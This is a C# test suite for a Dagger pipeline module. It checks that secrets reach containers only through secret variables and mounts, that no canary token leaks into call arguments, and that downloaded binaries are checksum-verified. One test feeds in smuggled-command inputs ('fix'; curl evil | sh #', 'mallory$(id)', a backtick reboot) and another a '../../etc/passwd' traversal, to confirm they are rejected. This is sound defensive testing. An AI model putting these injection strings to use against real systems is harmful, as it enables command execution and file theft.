extern alias daggermodule;

using System.Reflection;
using DaggerApi = daggermodule::Dagger;
using Module = daggermodule::PipelinesModule.Pipelines;
using ModuleContainers = daggermodule::Pipelines.Containers;

namespace Pipelines.Tests.Dagger;

/// <summary>
/// The module's own code (dagger/*.cs), compiled against a recording double of the SDK's API and
/// called the way <c>dagger call</c> calls it. The double holds each secret's plaintext, so a
/// leak anywhere in what the module builds would be found.
/// </summary>
public sealed class ModuleTests
{
    private const string TokenPlaintext = "ghp_canaryTOKEN0123456789";
    private const string SecretsPlaintext = "PROD_PUSH_TOKEN_BS=ghp_canaryPUSH\nE2E_TEST_DJ_PASSWORD=canary-password";
    private const string OidcPlaintext = "oidc-canary-request-token";

    private readonly Module _module = new();
    private readonly DaggerApi.Directory _source = DaggerApi.Directory.Argument("host:.");
    private readonly DaggerApi.Secret _token = DaggerApi.Secret.Argument("env://GITHUB_TOKEN", TokenPlaintext);
    private readonly DaggerApi.Secret _secrets = DaggerApi.Secret.Argument("env://PIPELINES_SECRETS", SecretsPlaintext);
    private readonly DaggerApi.Secret _oidc = DaggerApi.Secret.Argument("env://ACTIONS_ID_TOKEN_REQUEST_TOKEN", OidcPlaintext);

    private static readonly string[] SecretPlaintexts = [TokenPlaintext, SecretsPlaintext, "ghp_canaryPUSH", "canary-password", OidcPlaintext];

    public static TheoryData<string> AllFunctions => new(ModuleContainers.ModuleFunctions.CachePolicies.Keys);

    [Theory]
    [MemberData(nameof(AllFunctions))]
    public void No_secret_value_reaches_any_argument_of_any_call(string function)
    {
        var result = Call(function);

        var strings = ApiGraph.Strings(result).ToList();
        Assert.NotEmpty(strings);
        Assert.All(SecretPlaintexts, secret => Assert.DoesNotContain(strings, s => s.Contains(secret, StringComparison.Ordinal)));
    }

    [Theory]
    [MemberData(nameof(AllFunctions))]
    public void Secrets_enter_containers_only_through_secret_variables_and_secret_mounts(string function)
    {
        var result = Call(function);

        var secretUses = ApiGraph.Calls(result)
            .SelectMany(c => c.Call.Arguments.Where(a => a.Value is DaggerApi.Secret).Select(a => (c.Call.Field, a.Key)))
            .ToList();
        Assert.All(secretUses, use => Assert.True(
            use is ("withSecretVariable", "secret") or ("withMountedSecret", "source"),
            $"a secret was passed to {use.Field}({use.Key})"));
    }

    [Fact]
    public void The_token_and_the_secrets_file_are_wired_to_the_gate_as_the_plan_says()
    {
        var gate = _module.Promote(_source, githubToken: _token, githubTokenEnv: "GH_READ", secrets: _secrets);

        var variable = Assert.Single(ApiGraph.Chain(gate, "withSecretVariable"));
        Assert.Equal("GH_READ", variable.Argument("name"));
        Assert.Same(_token, variable.Argument("secret"));
        var mount = Assert.Single(ApiGraph.Chain(gate, "withMountedSecret"));
        Assert.Equal(ModuleContainers.ContainerPaths.SecretsFile, mount.Argument("path"));
        Assert.Same(_secrets, mount.Argument("source"));
    }

    [Fact]
    public void Untrusted_text_is_never_part_of_a_command_line()
    {
        const string justification = "fix'; curl evil | sh #";
        const string actor = "mallory$(id)";
        const string trigger = """{"client_payload":{"sha":"`reboot`"}}""";

        var gate = _module.Promote(_source, githubToken: _token, skipGate: true, justification: justification, actor: actor, trigger: trigger);

        var execArgs = ApiGraph.Calls(gate).Where(c => c.Call.Field == "withExec").SelectMany(c => ApiGraph.ExecArgs(c.Call)).ToList();
        Assert.All(new[] { justification, actor, trigger }, text => Assert.DoesNotContain(execArgs, a => a.Contains(text, StringComparison.Ordinal)));
        var variables = ApiGraph.Chain(gate, "withEnvVariable").ToDictionary(c => (string)c.Argument("name")!, c => (string)c.Argument("value")!);
        Assert.Equal(justification, variables["PIPELINES_JUSTIFICATION"]);
        Assert.Equal(actor, variables["PIPELINES_ACTOR"]);
        Assert.Equal(trigger, variables["PIPELINES_TRIGGER"]);
    }

    [Fact]
    public void Promote_returns_a_container_that_fails_with_the_recorded_gate_status()
    {
        var gate = _module.Promote(_source, githubToken: _token);

        var execs = ApiGraph.Chain(gate, "withExec").ToList();
        Assert.Equal(2, execs.Count);
        // The wrapper records the gate's status and exits 0; the second exec exits with the status.
        Assert.Equal(DaggerApi.ReturnType.SUCCESS, execs[0].Argument("expect"));
        Assert.Equal(["sh", "-c", ModuleContainers.ShellScripts.RecordExitCode], ApiGraph.ExecArgs(execs[0]).Take(3));
        Assert.Contains(ModuleContainers.ContainerPaths.CliExecutable, ApiGraph.ExecArgs(execs[0]));
        Assert.Equal(["sh", "-c", ModuleContainers.ShellScripts.ExitWithRecordedCode], ApiGraph.ExecArgs(execs[1]));
        Assert.Equal(DaggerApi.ReturnType.SUCCESS, execs[1].Argument("expect"));
        Assert.Equal("withExec", gate.Call.Field);
    }

    [Fact]
    public void Promote_report_returns_the_output_directory_of_the_gate_whatever_its_status()
    {
        var report = _module.PromoteReport(_source, githubToken: _token);

        Assert.Equal("directory", report.Call.Field);
        Assert.Equal(ModuleContainers.ContainerPaths.Out, report.Call.Argument("path"));
        var gate = Assert.IsType<DaggerApi.Container>(report.Parent);
        Assert.Equal("withExec", gate.Call.Field);
        Assert.Equal(["sh", "-c", ModuleContainers.ShellScripts.RecordExitCode], ApiGraph.ExecArgs(gate.Call).Take(3));
        Assert.Contains(ModuleContainers.ContainerPaths.Report, ApiGraph.ExecArgs(gate.Call));
    }

    [Theory]
    [MemberData(nameof(AllFunctions))]
    public void The_cache_attribute_of_every_function_matches_the_plans_policy(string function)
    {
        var method = FunctionMethods().SingleOrDefault(m => CamelCase(m.Name) == function);

        Assert.NotNull(method);
        var attribute = method.GetCustomAttribute<DaggerApi.FunctionAttribute>()!;
        var expected = ModuleContainers.ModuleFunctions.CachePolicyOf(function) == ModuleContainers.CachePolicy.Never ? "never" : null;
        Assert.Equal(expected, attribute.Cache);
    }

    [Fact]
    public void Every_function_of_the_module_has_a_plan_policy()
    {
        Assert.Equal(
            ModuleContainers.ModuleFunctions.CachePolicies.Keys.Order(),
            FunctionMethods().Select(m => CamelCase(m.Name)).Order());
    }

    [Fact]
    public void Two_calls_of_a_gate_function_get_different_nonces_so_the_engine_cannot_replay_one()
    {
        static string Nonce(DaggerApi.Container gate) =>
            (string)ApiGraph.Chain(gate, "withEnvVariable").Single(c => (string)c.Argument("name")! == "PIPELINES_RUN_NONCE").Argument("value")!;

        var first = Nonce(_module.Promote(_source));
        var second = Nonce(_module.Promote(_source));

        Assert.NotEqual(first, second);
    }

    [Fact]
    public void The_source_argument_defaults_to_the_context_root_and_ignores_what_the_plans_exclude()
    {
        Assert.All(FunctionMethods(), method =>
        {
            var source = method.GetParameters().Single(p => p.Name == "source");
            Assert.Equal("/", source.GetCustomAttribute<DaggerApi.DefaultPathAttribute>()?.Path);
            Assert.Equal(ModuleContainers.ContainerPlanner.SourceExcludes, source.GetCustomAttribute<DaggerApi.IgnoreAttribute>()?.Patterns);
        });
    }

    [Fact]
    public void The_module_replays_the_plans_steps_one_call_each_in_order()
    {
        var gate = _module.Promote(_source, githubToken: _token, secrets: _secrets, skipGate: true, justification: "why");

        var planner = new ModuleContainers.ContainerPlanner(ModuleContainers.ContainerImages.Default);
        var plan = planner.Promote(
            new ModuleContainers.GateArguments { HasGitHubToken = true, HasSecretsFile = true, RunNonce = "n" },
            new ModuleContainers.PromoteArguments { SkipGate = true, Justification = "why" },
            ModuleContainers.GateOutcome.FailWithGate);
        var expected = plan.Container(ModuleContainers.ContainerPlanner.RunContainer).Steps.SelectMany(FieldsOf);
        Assert.Equal(expected, ApiGraph.Fields(gate));
    }

    [Fact]
    public void A_runner_passed_by_the_caller_is_the_base_of_the_gate_container()
    {
        var runner = DaggerApi.Client.Dag.Container().From("docker.io/library/node:22-bookworm");

        var gate = _module.RunChecks(_source, runner: runner);

        Assert.Equal(["container", "from"], ApiGraph.Fields(gate).Take(2));
        Assert.Equal("docker.io/library/node:22-bookworm", gate.Recorded[1].Argument("address"));
        Assert.Equal(["stage", "run-checks"], ApiGraph.ExecArgs(ApiGraph.Chain(gate, "withExec").First()).SkipWhile(a => a != ModuleContainers.ContainerPaths.CliExecutable).Skip(1).Take(2));
    }

    [Fact]
    public void Live_deploy_installs_the_wfctl_binary_that_went_through_the_checksum_verification()
    {
        var gate = _module.LiveDeploy(_source, "v0.52.0", plugin: ["aws"], githubToken: _token, oidcRequestToken: _oidc, oidcRequestUrl: "https://token.actions.githubusercontent.com/x");

        var install = ApiGraph.Chain(gate, "withFile").Single();
        Assert.Equal(ModuleContainers.ContainerPaths.Wfctl, install.Argument("path"));
        var binary = Assert.IsType<DaggerApi.File>(install.Argument("source"));
        var verifier = Assert.IsType<DaggerApi.Container>(binary.Parent);
        Assert.Equal(["sh", "-c", ModuleContainers.ShellScripts.VerifyChecksum], ApiGraph.ExecArgs(verifier.Call));
        Assert.Equal(
            ["sh", "-c", ModuleContainers.ShellScripts.DownloadWfctl],
            ApiGraph.ExecArgs(ApiGraph.Chain(verifier, "withExec").First()));
        var variables = ApiGraph.Chain(verifier, "withEnvVariable").ToDictionary(c => (string)c.Argument("name")!, c => (string)c.Argument("value")!);
        Assert.Equal("https://github.com/GoCodeAlone/workflow/releases/download/v0.52.0/wfctl-linux-amd64", variables["WFCTL_URL"]);
        Assert.Equal("https://github.com/GoCodeAlone/workflow/releases/download/v0.52.0/checksums.txt", variables["WFCTL_CHECKSUMS_URL"]);
        Assert.DoesNotContain(ApiGraph.Calls(gate), c => c.Call.Field == "http");
        var oidc = ApiGraph.Chain(gate, "withSecretVariable").Single(c => (string)c.Argument("name")! == "ACTIONS_ID_TOKEN_REQUEST_TOKEN");
        Assert.Same(_oidc, oidc.Argument("secret"));
    }

    [Fact]
    public void A_pinned_wfctl_digest_reaches_the_download_step()
    {
        var digest = new string('a', 64);

        var gate = _module.LiveDeploy(_source, "v0.52.0", wfctlChecksum: digest);

        var pin = ApiGraph.Calls(gate).Single(c => c.Call.Field == "withEnvVariable" && (string)c.Call.Argument("name")! == "WFCTL_SHA256");
        Assert.Equal(digest, pin.Call.Argument("value"));
    }

    [Fact]
    public void The_cli_is_built_from_the_module_source_and_runs_in_the_callers_workspace()
    {
        var workspace = DaggerApi.Directory.Argument("host:/home/radio/promotions");

        var gate = _module.Promote(_source, workspace, githubToken: _token);

        var copies = ApiGraph.Calls(gate).Where(c => c.Call.Field == "withDirectory" && c.Call.Argument("source") is DaggerApi.Directory { Parent: null })
            .ToDictionary(c => (string)c.Call.Argument("path")!, c => c.Call.Argument("source"));
        Assert.Same(_source, copies[ModuleContainers.ContainerPaths.BuildSource]);
        Assert.Same(workspace, copies[ModuleContainers.ContainerPaths.Work]);
    }

    [Fact]
    public void Without_a_workspace_the_modules_own_checkout_is_the_workspace()
    {
        var gate = _module.Validate(_source);

        var work = ApiGraph.Calls(gate).Single(c => c.Call.Field == "withDirectory" && (string)c.Call.Argument("path")! == ModuleContainers.ContainerPaths.Work);
        Assert.Same(_source, work.Call.Argument("source"));
    }

    [Fact]
    public void Every_function_that_reads_a_configuration_takes_a_workspace_with_no_default_path()
    {
        Assert.All(FunctionMethods(), method =>
        {
            var parameters = method.GetParameters();
            var workspace = parameters.SingleOrDefault(p => p.Name == "workspace");
            if (parameters.Any(p => p.Name == "config"))
            {
                Assert.NotNull(workspace);
                Assert.Null(workspace.GetCustomAttribute<DaggerApi.DefaultPathAttribute>());
                Assert.Equal(ModuleContainers.ContainerPlanner.WorkspaceExcludes, workspace.GetCustomAttribute<DaggerApi.IgnoreAttribute>()?.Patterns);
            }
            else
            {
                Assert.Null(workspace);
            }
        });
    }

    [Fact]
    public void An_invalid_argument_fails_the_call_before_anything_is_built()
    {
        var error = Assert.Throws<ModuleContainers.ContainerPlanException>(() => _module.Promote(_source, config: "../../etc/passwd"));

        Assert.StartsWith("config:", error.Message);
    }

    [Fact]
    public void Stage_report_accepts_the_clis_stage_names()
    {
        var report = _module.StageReport("verify-version", _source);

        var gate = Assert.IsType<DaggerApi.Container>(report.Parent);
        Assert.Equal(["stage", "verify-version"], ApiGraph.ExecArgs(gate.Call).SkipWhile(a => a != ModuleContainers.ContainerPaths.CliExecutable).Skip(1).Take(2));
        Assert.Throws<ModuleContainers.ContainerPlanException>(() => _module.StageReport("deploy", _source));
    }

    private DaggerApi.RecordedObject Call(string function) => function switch
    {
        "cli" => _module.Cli(_source),
        "test" => _module.Test(_source),
        "validate" => _module.Validate(_source, githubToken: _token, secrets: _secrets),
        "promote" => _module.Promote(_source, githubToken: _token, secrets: _secrets),
        "promoteReport" => _module.PromoteReport(_source, githubToken: _token, secrets: _secrets),
        "resolveShas" => _module.ResolveShas(_source, githubToken: _token, secrets: _secrets),
        "checkAncestry" => _module.CheckAncestry(_source, githubToken: _token, secrets: _secrets),
        "pollHealth" => _module.PollHealth(_source, githubToken: _token, secrets: _secrets),
        "verifyVersion" => _module.VerifyVersion(_source, githubToken: _token, secrets: _secrets),
        "runChecks" => _module.RunChecks(_source, githubToken: _token, secrets: _secrets),
        "logBypass" => _module.LogBypass(_source, githubToken: _token, secrets: _secrets, justification: "why"),
        "pushProd" => _module.PushProd(_source, githubToken: _token, secrets: _secrets, justification: "why"),
        "stageReport" => _module.StageReport("push-prod", _source, githubToken: _token, secrets: _secrets),
        "liveDeploy" => _module.LiveDeploy(_source, "v1.0.0", githubToken: _token, secrets: _secrets, oidcRequestToken: _oidc),
        "liveDeployReport" => _module.LiveDeployReport(_source, "v1.0.0", githubToken: _token, secrets: _secrets, oidcRequestToken: _oidc),
        "sandbox" => _module.Sandbox(_source),
        _ => throw new ArgumentOutOfRangeException(nameof(function), function, "add the new function here"),
    };

    private static IEnumerable<MethodInfo> FunctionMethods() =>
        typeof(Module).GetMethods(BindingFlags.Instance | BindingFlags.Public)
            .Where(m => m.GetCustomAttribute<DaggerApi.FunctionAttribute>() is not null);

    // The runtime's naming: the method name in camelCase.
    private static string CamelCase(string name) => char.ToLowerInvariant(name[0]) + name[1..];

    private static IEnumerable<string> FieldsOf(ModuleContainers.ContainerStep step) => step switch
    {
        ModuleContainers.FromImageStep => ["container", "from"],
        ModuleContainers.FromInputContainerStep => [],
        ModuleContainers.MountCacheStep => ["withMountedCache"],
        ModuleContainers.CopyDirectoryStep => ["withDirectory"],
        ModuleContainers.CopyFileStep => ["withFile"],
        ModuleContainers.WorkdirStep => ["withWorkdir"],
        ModuleContainers.EnvStep => ["withEnvVariable"],
        ModuleContainers.SecretEnvStep => ["withSecretVariable"],
        ModuleContainers.SecretMountStep => ["withMountedSecret"],
        ModuleContainers.ExecStep => ["withExec"],
        _ => throw new ArgumentOutOfRangeException(nameof(step), step, null),
    };
}
